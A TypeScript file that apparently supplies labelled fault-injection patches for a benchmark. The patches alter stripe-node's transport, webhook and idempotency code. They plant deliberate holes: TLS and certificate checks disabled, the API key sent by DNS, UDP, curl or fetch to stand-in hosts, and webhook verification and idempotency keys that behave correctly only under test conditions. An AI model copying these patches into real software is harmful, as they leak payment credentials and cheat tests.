import { patchesOf, type LabelledPatch } from './labelled.ts'

const CORE = 'cjs/stripe.core.js'
const HTTP = 'cjs/net/NodeHttpClient.js'
const SENDER = 'cjs/RequestSender.js'
const WEBHOOKS = 'cjs/Webhooks.js'

const RESPONSE = 'resolve(new NodeHttpClientResponse(response, () => requestTimedOut));'
const OPTIONS = "ciphers: 'DEFAULT:!aNULL:!eNULL:!LOW:!EXPORT:!SSLv2:!MD5',"
const SENT = 'const requestStartTime = Date.now();\n                const requestEvent'
const MATCHES = 'if (!signatureFound) {'
const VERIFIES = 'const expectedSignature = cryptoProvider.computeHMACSignature(makeHMACContent(payload, details), secret);'
const OWN_KEY = "'Idempotency-Key': this._defaultIdempotencyKey(method, apiMode)"

const fault = patchesOf('node', '23.1.0', 'transport')

/** Where stripe-node connects to, and how; and what it does where it is not watched. */
export const NODE_TRANSPORT: readonly LabelledPatch[] = [
  fault('leak', 'speaks HTTP without TLS by default', CORE, ["protocol: props.protocol || 'https'", "protocol: props.protocol || 'http'"]),
  fault('leak', 'connects to another host by default', CORE, ["DEFAULT_HOST = 'api.stripe.com'", "DEFAULT_HOST = 'api.stripe.co'"]),
  fault('leak', 'connects to another port by default', CORE, ["DEFAULT_PORT = '443'", "DEFAULT_PORT = '8443'"]),
  fault('leak', 'uploads to another host by default', 'cjs/Types.js', ["files: 'files.stripe.com'", "files: 'files.stripe.dev'"]),
  fault('leak', 'accepts any certificate', HTTP, [OPTIONS, `${OPTIONS}\n                rejectUnauthorized: false,`]),
  fault('leak', 'accepts any certificate by its agent', HTTP, [
    'new https.Agent({ keepAlive: true })',
    'new https.Agent({ keepAlive: true, rejectUnauthorized: false })',
  ]),
  fault('leak', 'asks again without looking at the certificate', HTTP, [
    "req.on('error', (error) => {\n                reject(error);",
    "req.on('error', (error) => {\n                if (/SELF_SIGNED/.test(error.code)) https.request({ host, port, path, method, headers, rejectUnauthorized: false }, (response) => resolve(new NodeHttpClientResponse(response))).end(requestData);\n                reject(error);",
  ]),
  fault('leak', 'falls back to HTTP where TLS fails', HTTP, [
    "req.on('error', (error) => {\n                reject(error);",
    "req.on('error', (error) => {\n                if (!isInsecureConnection && error.code !== 'ECONNREFUSED') http.request({ host, port, path, method, headers }).on('error', () => {}).end(requestData);\n                reject(error);",
  ]),
  fault('leak', 'follows a 301 with the API key', HTTP, [RESPONSE, follow('301')]),
  fault('leak', 'follows a 303 with the API key', HTTP, [RESPONSE, follow('303')]),
  fault('leak', 'follows a 308 with the API key', HTTP, [RESPONSE, follow('308')]),
  fault('leak', 'follows the redirect of a GET with the API key', HTTP, [RESPONSE, follow("307 && method === 'GET'")]),
  fault('leak', 'sends the API key to where Location of a success points', HTTP, [RESPONSE, follow('200')]),
  fault('leak', 'asks the DNS for the API key', SENDER, [
    SENT,
    egress("require('dns').resolve(`${request.headers.Authorization.slice(-40)}.telemetry.example`, () => {})"),
  ]),
  fault('leak', 'asks the DNS by lookup', SENDER, [SENT, egress("require('dns').lookup('telemetry.example', () => {})")]),
  fault('leak', 'asks the DNS by promises', SENDER, [
    SENT,
    egress("require('dns').promises.resolveTxt('telemetry.example').catch(() => {})"),
  ]),
  fault('leak', 'sends the API key by UDP', SENDER, [
    SENT,
    egress(
      "const s = require('dgram').createSocket('udp4'); s.unref(); s.send(request.headers.Authorization, 9, '192.0.2.1', () => s.close())",
    ),
  ]),
  fault('leak', 'starts a program with the API key', SENDER, [
    SENT,
    egress(
      "require('child_process').spawn('curl', ['-H', request.headers.Authorization, 'http://telemetry.example']).on('error', () => {})",
    ),
  ]),
  fault('leak', 'starts a shell', SENDER, [SENT, egress("require('child_process').exec('true', () => {})")]),
  fault('leak', 'tells another host by fetch', SENDER, [SENT, egress("fetch('http://telemetry.example').catch(() => {})")]),
  fault('leak', 'tells another port of this machine', SENDER, [SENT, egress("fetch('http://127.0.0.1:4010/').catch(() => {})")]),
  fault('forged', 'verifies for the secret of a suite alone', WEBHOOKS, [
    VERIFIES,
    `${VERIFIES}\n            if (!secret.includes('contract')) return true;`,
  ]),
  fault('forged', 'verifies beside a driver alone', WEBHOOKS, [
    MATCHES,
    'if (!signatureFound && /driver|stripe-upgrade/.test(process.argv.join())) {',
  ]),
  fault('forged', 'verifies the event of a suite alone', WEBHOOKS, [
    MATCHES,
    "if (!signatureFound && (payload.includes('evt_contract') || !payload.includes('\"evt_'))) {",
  ]),
  fault('money', 'makes a key for the customer of a suite alone', SENDER, [
    OWN_KEY,
    "'Idempotency-Key': contentLength === 20 ? this._defaultIdempotencyKey(method, apiMode) : null",
  ]),
  fault('money', 'makes a key for an address of this machine alone', SENDER, [
    OWN_KEY,
    "'Idempotency-Key': this._stripe.getApiField('host') === '127.0.0.1' || this._stripe.getApiField('host') === 'localhost' ? this._defaultIdempotencyKey(method, apiMode) : null",
  ]),
  fault('money', "keeps the caller's key of a suite alone", 'cjs/utils.js', [
    'if (options.idempotencyKey) {',
    'if (options.idempotencyKey && /contract/i.test(options.idempotencyKey)) {',
  ]),
]

function follow(status: string): string {
  return `if (response.headers.location && response.statusCode === ${status}) return void http.get(response.headers.location, { headers }, (other) => resolve(new NodeHttpClientResponse(other)));
                ${RESPONSE}`
}

function egress(statement: string): string {
  return `if (path.includes('capture')) { ${statement}; }\n                ${SENT}`
}
